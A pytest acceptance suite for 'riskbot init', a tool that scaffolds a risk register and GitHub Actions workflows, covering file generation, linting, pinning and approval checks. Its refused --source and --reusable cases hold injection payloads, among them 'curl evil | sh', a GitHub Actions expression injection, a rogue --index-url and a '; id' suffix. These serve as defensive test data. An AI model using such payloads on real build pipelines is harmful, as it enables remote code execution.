"""`riskbot init` in an empty repository: a register that passes, workflows that lint clean."""

from __future__ import annotations

import json
import re
import shutil
import tomllib
from pathlib import Path
from typing import Any

import pytest
import yaml

from bot import __version__
from bot.documents import init as setup
from tests.acceptance.test_governance import approval_env
from tests.acceptance.test_pr import run_event
from tests.cli import run_riskbot as run
from tests.factories import REPO, RISKS, commit, git
from tests.fakegithub.server import FakeGitHub
from tests.test_workflows import run_actionlint, zizmor

PINNED = f"riskbot=={__version__}"
# This checkout is installed editable, which is no release: init needs --source here (the
# wheel's own init, which needs none, is tested in tests/test_release.py).
INIT = ("init", "--source", PINNED)
COMMIT = "0123456789abcdef0123456789abcdef01234567"
WRITTEN = [
    ".github/riskbot.yml",
    *(f"schema/{p.name}" for p in sorted((REPO / "schema").glob("*.schema.json"))),
    "risks/R-001-example.yaml",
    ".github/ISSUE_TEMPLATE/propose-risk.yml",
    *(f".github/workflows/{name}" for name in setup.WORKFLOWS),
]


def files_under(root: Path) -> list[str]:
    return sorted(
        p.relative_to(root).as_posix()
        for p in root.rglob("*")
        if p.is_file() and ".git" not in p.relative_to(root).parts
    )


def load(path: Path) -> dict[Any, Any]:
    doc = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert isinstance(doc, dict)
    return doc


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A new, empty git repository."""
    root = tmp_path / "repo"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    return root


@pytest.fixture
def initialised(repo: Path) -> Path:
    result = run(*INIT, cwd=repo)
    assert result.returncode == 0, result.stderr
    return repo


# --- done when --------------------------------------------------------------------------------


def test_init_then_check_passes(repo: Path) -> None:
    result = run(*INIT, cwd=repo)
    assert result.returncode == 0, result.stderr
    assert files_under(repo) == sorted(WRITTEN)
    assert [line.removeprefix("wrote ") for line in result.stdout.splitlines()[: len(WRITTEN)]] == (
        WRITTEN
    )
    assert "Next steps:" in result.stdout
    for words in ("logins", "check the register", PINNED, "main"):
        assert words in result.stdout

    check = run("check", "--format", "json", cwd=repo)
    assert check.returncode == 0, check.stdout + check.stderr
    doc = json.loads(check.stdout)
    assert doc["ok"] is True
    assert [f for f in doc["findings"] if f["severity"] == "error"] == []
    assert [(r["id"], r["file"]) for r in doc["risks"]] == [("R-001", "risks/R-001-example.yaml")]
    assert run("check", cwd=repo).returncode == 0


def test_the_generated_workflows_pass_zizmor(initialised: Path) -> None:
    result = zizmor(str(initialised / ".github" / "workflows"))
    assert json.loads(result.stdout) == []
    assert result.returncode == 0, result.stderr


def test_the_generated_workflows_pass_actionlint(initialised: Path) -> None:
    paths = sorted((initialised / ".github" / "workflows").glob("*.yml"))
    assert len(paths) == len(setup.WORKFLOWS)
    result = run_actionlint(*paths)
    assert json.loads(result.stdout) == []
    assert result.returncode == 0, result.stderr


def test_a_second_init_refuses_and_names_every_file(initialised: Path) -> None:
    policy = initialised / ".github" / "riskbot.yml"
    policy.write_text("# mine\n", encoding="utf-8")
    (initialised / "risks" / "R-001-example.yaml").unlink()

    result = run(*INIT, cwd=initialised)
    assert result.returncode == 1
    assert "--force" in result.stderr
    for name in WRITTEN:
        if name != "risks/R-001-example.yaml":
            assert name in result.stderr, name
    # All or nothing: the missing example was not written either.
    assert not (initialised / "risks" / "R-001-example.yaml").exists()
    assert policy.read_text(encoding="utf-8") == "# mine\n"


def test_force_overwrites(initialised: Path) -> None:
    policy = initialised / ".github" / "riskbot.yml"
    policy.write_text("# mine\n", encoding="utf-8")
    result = run(*INIT, "--force", cwd=initialised)
    assert result.returncode == 0, result.stderr
    assert policy.read_text(encoding="utf-8") == setup.policy_text("plan")
    assert files_under(initialised) == sorted(WRITTEN)
    assert run("check", cwd=initialised).returncode == 0


# --- what is written --------------------------------------------------------------------------


def test_the_policy_is_neutral_with_the_plans_method_and_the_schemas_are_riskbots_own(
    initialised: Path,
) -> None:
    written = load(initialised / ".github" / "riskbot.yml")
    plan = load(REPO / ".github" / "riskbot.yml")
    for section in ("impact_scale", "probability_scale", "bands", "cadences", "categories"):
        assert written[section] == plan[section], section
    assert written["method"]["name"] == "plan"
    # Not the program's own: one owner role, no releases (so no odds until they are added).
    assert [r["id"] for r in written["roles"]] == ["technical-lead"]
    assert written["releases"] == []
    assert written["program"] != plan["program"]
    for path in sorted((REPO / "schema").glob("*.schema.json")):
        assert (initialised / "schema" / path.name).read_bytes() == path.read_bytes()


def test_every_file_names_a_schema_the_editor_can_reach(initialised: Path) -> None:
    for name in (".github/riskbot.yml", "risks/R-001-example.yaml"):
        first = (initialised / name).read_text(encoding="utf-8").splitlines()[0]
        match = re.fullmatch(r"# yaml-language-server: \$schema=(\S+)", first)
        assert match, f"{name}: {first}"
        assert ((initialised / name).parent / match.group(1)).resolve().is_file(), name


@pytest.mark.parametrize("name", setup.WORKFLOWS)
def test_a_generated_workflow_is_the_repositorys_own_with_riskbot_pinned(
    initialised: Path, name: str
) -> None:
    # Same triggers, permissions, pins, concurrency and steps; only what init must change.
    ours = load(REPO / ".github" / "workflows" / name)
    theirs = load(initialised / ".github" / "workflows" / name)
    for job in ours["jobs"].values():
        for step in job["steps"]:
            if step.get("run", "").startswith("python -m pip install"):
                step["run"] = f'python -m pip install --disable-pip-version-check "{PINNED}"'
            if step.get("with", {}).get("cache-dependency-path") == "pyproject.toml":
                step["with"]["cache-dependency-path"] = f".github/workflows/{name}"
        job["steps"] = [s for s in job["steps"] if s.get("run") != "riskbot report --check"]
    assert theirs == ours
    text = (initialised / ".github" / "workflows" / name).read_text(encoding="utf-8")
    assert text.startswith("# Written by `riskbot init`")
    installs = sum(
        1 for job in ours["jobs"].values() for s in job["steps"] if "pip" in s.get("run", "")
    )
    assert text.count(PINNED) == 1 + installs  # the header and each job's install step


def test_source_installs_the_given_pinned_requirement(repo: Path) -> None:
    source = f"git+https://github.com/OWNER/riskbot@{COMMIT}"
    result = run("init", "--source", source, cwd=repo)
    assert result.returncode == 0, result.stderr
    for name in setup.WORKFLOWS:
        runs = [
            s["run"]
            for job in load(repo / ".github" / "workflows" / name)["jobs"].values()
            for s in job["steps"]
            if "pip install" in s.get("run", "")
        ]
        assert set(runs) == {f'python -m pip install --disable-pip-version-check "{source}"'}


@pytest.mark.parametrize(
    "source",
    [
        "riskbot",  # not pinned
        "riskbot>=0.1",
        "git+https://github.com/OWNER/riskbot@main",
        'riskbot==0.1"; curl evil | sh; "',  # shell
        "riskbot==${{ github.event.issue.title }}",  # Actions expression
        "--index-url=https://evil.example/ riskbot==1",
    ],
)
def test_a_source_that_is_not_pinned_or_not_safe_is_refused(repo: Path, source: str) -> None:
    result = run("init", "--source", source, cwd=repo)
    assert result.returncode == 2
    assert "--source" in result.stderr
    assert files_under(repo) == []


@pytest.mark.parametrize(
    "source",
    [
        "/opt/src/riskbot",
        "./dist/riskbot-0.1.0-py3-none-any.whl",
        "~/riskbot",
        "file:///opt/src/riskbot-0.1.0.tar.gz#sha256=" + "0" * 64,
        f"git+file:///opt/src/riskbot@{COMMIT}",
    ],
)
def test_a_local_path_is_refused_for_what_it_is(repo: Path, source: str) -> None:
    result = run("init", "--source", source, cwd=repo)
    assert result.returncode == 2
    assert f"--source {source!r} is a path on this machine" in result.stderr
    assert "runners, which cannot see it" in result.stderr
    assert "spaces, quotes" not in result.stderr
    assert files_under(repo) == []


def test_a_pin_the_index_does_not_hold_is_refused(repo: Path, tmp_path: Path) -> None:
    index = tmp_path / "index"
    (index / "riskbot").mkdir(parents=True)
    (index / "riskbot" / "riskbot-0.0.9-py3-none-any.whl").write_bytes(b"")
    env = {"PIP_INDEX_URL": index.as_uri()}
    result = run("init", "--source", "riskbot==9.9.9", cwd=repo, env=env)
    assert result.returncode == 2
    assert f"the package index {index.as_uri()} has no riskbot 9.9.9" in result.stderr
    assert "git+https://github.com/OWNER/riskbot@<40-hex commit>" in result.stderr
    assert files_under(repo) == []
    offline = run(
        "init", "--source", PINNED, cwd=repo, env={"PIP_INDEX_URL": "http://127.0.0.1:1/"}
    )
    assert offline.returncode == 2
    assert "could not ask the package index http://127.0.0.1:1/" in offline.stderr
    assert files_under(repo) == []
    held = run("init", "--source", "riskbot==0.0.9", cwd=repo, env=env)
    assert held.returncode == 0, held.stderr


def test_the_sync_workflow_listens_to_the_default_branch(repo: Path) -> None:
    git(repo, "symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/trunk")
    assert run(*INIT, cwd=repo).returncode == 0
    push = load(repo / ".github" / "workflows" / "riskbot-sync.yml")[True]["push"]
    assert push["branches"] == ["trunk"]


def test_branch_option(repo: Path) -> None:
    assert run(*INIT, "--branch", "release/v2", cwd=repo).returncode == 0
    push = load(repo / ".github" / "workflows" / "riskbot-sync.yml")[True]["push"]
    assert push["branches"] == ["release/v2"]
    bad = run(*INIT, "--force", "--branch", "x]: [y", cwd=repo)
    assert bad.returncode == 2
    assert "--branch" in bad.stderr


def test_a_register_with_risks_gets_no_example(repo: Path) -> None:
    shutil.copytree(RISKS, repo / "risks")
    result = run(*INIT, str(repo), cwd=repo.parent)
    assert result.returncode == 0, result.stderr
    assert not (repo / "risks" / "R-001-example.yaml").exists()
    assert "Check the risks already under risks/" in result.stdout
    # The plan's risks are on the plan's method; their phases and owners are the program's own,
    # which the neutral policy does not have yet: check names them, file by file.
    check = run("check", "--format", "json", cwd=repo)
    assert check.returncode == 1, check.stdout
    codes = {f["code"] for f in json.loads(check.stdout)["findings"] if f["severity"] == "error"}
    assert codes == {"phase", "owner"}


def test_init_into_a_missing_directory_is_a_usage_error(tmp_path: Path) -> None:
    result = run(*INIT, str(tmp_path / "nowhere"), cwd=tmp_path)
    assert result.returncode == 2
    assert files_under(tmp_path) == []


# --- the library, directly --------------------------------------------------------------------


def test_without_source_a_riskbot_that_is_no_release_refuses_and_writes_nothing(
    repo: Path,
) -> None:
    result = run("init", cwd=repo)
    assert result.returncode == 2
    assert "--source" in result.stderr
    assert "(editable)" in result.stderr  # it says why: this checkout is installed editable
    assert "Traceback" not in result.stderr
    assert files_under(repo) == []


RELEASE = "1.2.3"
GIT = {"url": "https://github.com/o/riskbot", "vcs_info": {"vcs": "git", "commit_id": COMMIT}}


@pytest.mark.parametrize(
    ("direct_url", "expected"),
    [
        (None, f"riskbot=={RELEASE}"),  # from an index (pip writes no direct_url.json)
        (
            {"url": f"file:///tmp/dist/riskbot-{RELEASE}-py3-none-any.whl", "archive_info": {}},
            f"riskbot=={RELEASE}",
        ),
        (
            {"url": f"https://example.org/riskbot-{RELEASE}.tar.gz", "archive_info": {}},
            f"riskbot=={RELEASE}",
        ),
        (GIT, f"git+https://github.com/o/riskbot@{COMMIT}"),
    ],
    ids=["index", "wheel", "sdist", "git-commit"],
)
def test_the_default_source_is_what_the_running_riskbot_was_installed_as(
    direct_url: dict[str, Any] | None, expected: str
) -> None:
    text = None if direct_url is None else json.dumps(direct_url)
    assert setup.source_for(RELEASE, RELEASE, text) == expected
    assert setup.check_source(expected) == expected


@pytest.mark.parametrize(
    ("version", "installed", "direct_url", "why"),
    [
        (RELEASE, None, None, "source tree"),
        (RELEASE, "1.2.2", None, "not the installed riskbot 1.2.2"),
        ("1.2.3+g0123abc", "1.2.3+g0123abc", None, "no package index holds"),
        (
            "1.2",
            "1.2",
            '{"url": "file:///src/riskbot", "dir_info": {"editable": true}}',
            "editable",
        ),
        (RELEASE, RELEASE, '{"url": "file:///src/riskbot", "dir_info": {}}', "file:///src"),
        (RELEASE, RELEASE, '{"url": "https://x.org/main.tar.gz", "archive_info": {}}', "main.tar"),
        (  # a wheel of another version is not this release
            RELEASE,
            RELEASE,
            '{"url": "file:///d/riskbot-1.2.4-py3-none-any.whl", "archive_info": {}}',
            "1.2.4",
        ),
        (
            RELEASE,
            RELEASE,
            json.dumps({**GIT, "vcs_info": {"vcs": "git", "commit_id": "main"}}),
            "main",
        ),
        (
            RELEASE,
            RELEASE,
            json.dumps({**GIT, "url": "ssh://git@github.com/o/riskbot"}),
            "ssh://",
        ),
        (RELEASE, RELEASE, "not json", "does not say"),
        (RELEASE, RELEASE, "[]", "does not say"),
    ],
    ids=[
        "not-installed",
        "other-version",
        "local-version",
        "editable",
        "directory",
        "other-archive",
        "other-wheel",
        "git-branch",
        "git-ssh",
        "bad-json",
        "not-an-object",
    ],
)
def test_no_default_source_when_no_runner_could_install_it(
    version: str, installed: str | None, direct_url: str | None, why: str
) -> None:
    with pytest.raises(setup.InitError, match="pass --source") as raised:
        setup.source_for(version, installed, direct_url)
    assert why in str(raised.value)


@pytest.mark.parametrize(
    "version", ["1", "0.1.0", "2.0.0rc1", "1.0b2", "1.0.post1", "1!2.0", "3.0.dev4"]
)
def test_release_versions_are_pinned(version: str) -> None:
    assert setup.source_for(version, version, None) == f"riskbot=={version}"


def test_this_checkout_has_no_default_source() -> None:
    # The suite runs riskbot installed editable: no release, so init asks for --source.
    with pytest.raises(setup.InitError, match="editable"):
        setup.default_source()


def test_a_workflow_that_changed_shape_fails_loudly() -> None:
    with pytest.raises(RuntimeError, match="update WORKFLOW_EDITS"):
        setup.adapt_workflow("riskbot-sync.yml", "jobs: {}\n", source=PINNED, branch="main")


def test_a_failed_write_takes_back_what_it_created(tmp_path: Path) -> None:
    files = [setup.InitFile("a/one.txt", "1"), setup.InitFile("a/one.txt/two.txt", "2")]
    with pytest.raises(setup.InitRefused, match="cannot write"):
        setup.write_files(tmp_path, files)
    assert not (tmp_path / "a" / "one.txt").exists()


def test_the_wheel_ships_what_init_reads() -> None:
    config = tomllib.loads((REPO / "pyproject.toml").read_text(encoding="utf-8"))
    shipped = config["tool"]["hatch"]["build"]["targets"]["wheel"]["force-include"]
    assert shipped[".github/riskbot.yml"] == "bot/templates/riskbot.yml"
    assert shipped["schema"] == "bot/schema"
    for name in setup.WORKFLOWS:
        assert shipped[f".github/workflows/{name}"] == f"bot/templates/workflows/{name}"


# --- logins first ------------------------------------------------------------------------------


def test_a_fresh_register_fails_a_pull_request_that_lowers_a_red_risk_until_logins_are_named(
    github_server: FakeGitHub, initialised: Path, tmp_path: Path
) -> None:
    """Day one: the policy has no logins, so nobody can approve taking a risk out of Red and
    the PR check fails, pointing at the line to fill; named on the base branch, the role's
    login approves it."""
    root = initialised
    assert "1. Logins first." in run(*INIT, "--force", cwd=root).stdout
    example = root / "risks" / "R-001-example.yaml"
    # Recorded on a day before the one the PR job runs on (`riskbot pr --today` in these tests).
    text = re.sub(r"\d{4}-\d{2}-\d{2}", "2026-11-02", example.read_text(encoding="utf-8"))
    red = text.replace("level: 2\n", "level: 4\n")  # 4 × 4 = 16: Red on the plan's method
    example.write_text(red, encoding="utf-8")
    base = commit(root, "a Red risk")
    example.write_text(text, encoding="utf-8")  # back to 2 × 2 = 4: Green
    head = commit(root, "lower it")
    env = {**approval_env(github_server), "GITHUB_RUN_ID": "1"}

    def check(base: str, head: str) -> tuple[int, str, str]:
        pull = github_server.add_pull("Lower R-001", head_sha=head, base_sha=base)
        result, _ = run_event(tmp_path, base, head, root, number=pull.number, extra=env)
        body = json.loads((tmp_path / "artifact" / "comment.json").read_text())["body"]
        return result.returncode, result.stdout, body

    lines = (root / ".github" / "riskbot.yml").read_text(encoding="utf-8").splitlines()
    line = next(n for n, x in enumerate(lines, 1) if x.strip().startswith("logins:"))
    code, out, body = check(base, head)
    assert code == 1, out
    assert (
        f"::error file=.github/riskbot.yml,line={line},title=riskbot%3A no one can approve::"
        in (out)
    )
    assert f"Technical Lead has no logins (fill `.github/riskbot.yml:{line}`)" in body
    # The logins named on the base branch: the same change now waits for the lead's approval.
    git(root, "checkout", "-q", base)
    policy = root / ".github" / "riskbot.yml"
    policy.write_text(
        policy.read_text(encoding="utf-8").replace("logins: []", "logins: [lead]"), "utf-8"
    )
    base = commit(root, "logins")
    example.write_text(text, encoding="utf-8")
    head = commit(root, "lower it")
    code, _, body = check(base, head)
    assert code == 1
    assert "waiting for approval by Technical Lead (@lead)" in body
    github_server.add_review(max(github_server.state.issues), "lead", "APPROVED", commit_id=head)
    result, _ = run_event(
        tmp_path, base, head, root, number=max(github_server.state.issues), extra=env
    )
    assert result.returncode == 0, result.stdout


# --- --reusable: three callers of the reusable workflow -----------------------------------------

REUSABLE = f"OWNER/riskbot@{COMMIT}"
CALLED = [
    *(name for name in WRITTEN if not name.startswith(".github/workflows/")),
    *(f".github/workflows/{name}" for name in setup.CALLERS),
]


@pytest.fixture
def called(repo: Path) -> Path:
    result = run("init", "--reusable", REUSABLE, cwd=repo)
    assert result.returncode == 0, result.stderr
    assert "riskbot / check the register" in result.stdout  # the check to require
    return repo


def test_reusable_writes_three_short_callers_instead_of_five_workflows(called: Path) -> None:
    assert files_under(called) == sorted(CALLED)
    for name in setup.CALLERS:
        text = (called / ".github" / "workflows" / name).read_text(encoding="utf-8")
        events = len(load(called / ".github" / "workflows" / name)[True])
        assert len(text.splitlines()) < 25, name
        assert len(text.splitlines()) / events < 25, name
        uses = f"OWNER/riskbot/.github/workflows/{setup.REUSABLE_WORKFLOW}@{COMMIT}"
        assert load(called / ".github" / "workflows" / name)["jobs"]["riskbot"]["uses"] == uses
        assert f"source: git+https://github.com/OWNER/riskbot@{COMMIT}" in text
    assert run("check", cwd=called).returncode == 0


def test_the_callers_pass_zizmor_and_actionlint(called: Path) -> None:
    folder = called / ".github" / "workflows"
    result = zizmor(str(folder))
    assert json.loads(result.stdout) == [], result.stdout
    assert result.returncode == 0, result.stderr
    linted = run_actionlint(*sorted(folder.glob("*.yml")))
    assert json.loads(linted.stdout) == []


def test_the_called_workflow_is_this_repositorys(called: Path) -> None:
    assert (REPO / ".github" / "workflows" / setup.REUSABLE_WORKFLOW).is_file()
    push = load(called / ".github" / "workflows" / "riskbot.yml")[True]["push"]
    assert push["branches"] == ["main"]


@pytest.mark.parametrize(
    "spec", ["OWNER/riskbot", "OWNER/riskbot@main", "riskbot@" + COMMIT, f"a/b@{COMMIT}; id"]
)
def test_reusable_needs_a_repository_and_a_commit(repo: Path, spec: str) -> None:
    result = run("init", "--reusable", spec, cwd=repo)
    assert result.returncode == 2
    assert "--reusable" in result.stderr
    assert files_under(repo) == []


def test_reusable_and_source_exclude_each_other(repo: Path) -> None:
    result = run("init", "--reusable", REUSABLE, "--source", PINNED, cwd=repo)
    assert result.returncode == 2
    assert files_under(repo) == []


def test_the_readme_shows_the_caller_init_writes() -> None:
    text = setup.caller_workflow("riskbot.yml", repo="OWNER/riskbot", commit=COMMIT, branch="main")
    assert f"```yaml\n{text}```\n" in (REPO / "README.md").read_text(encoding="utf-8")
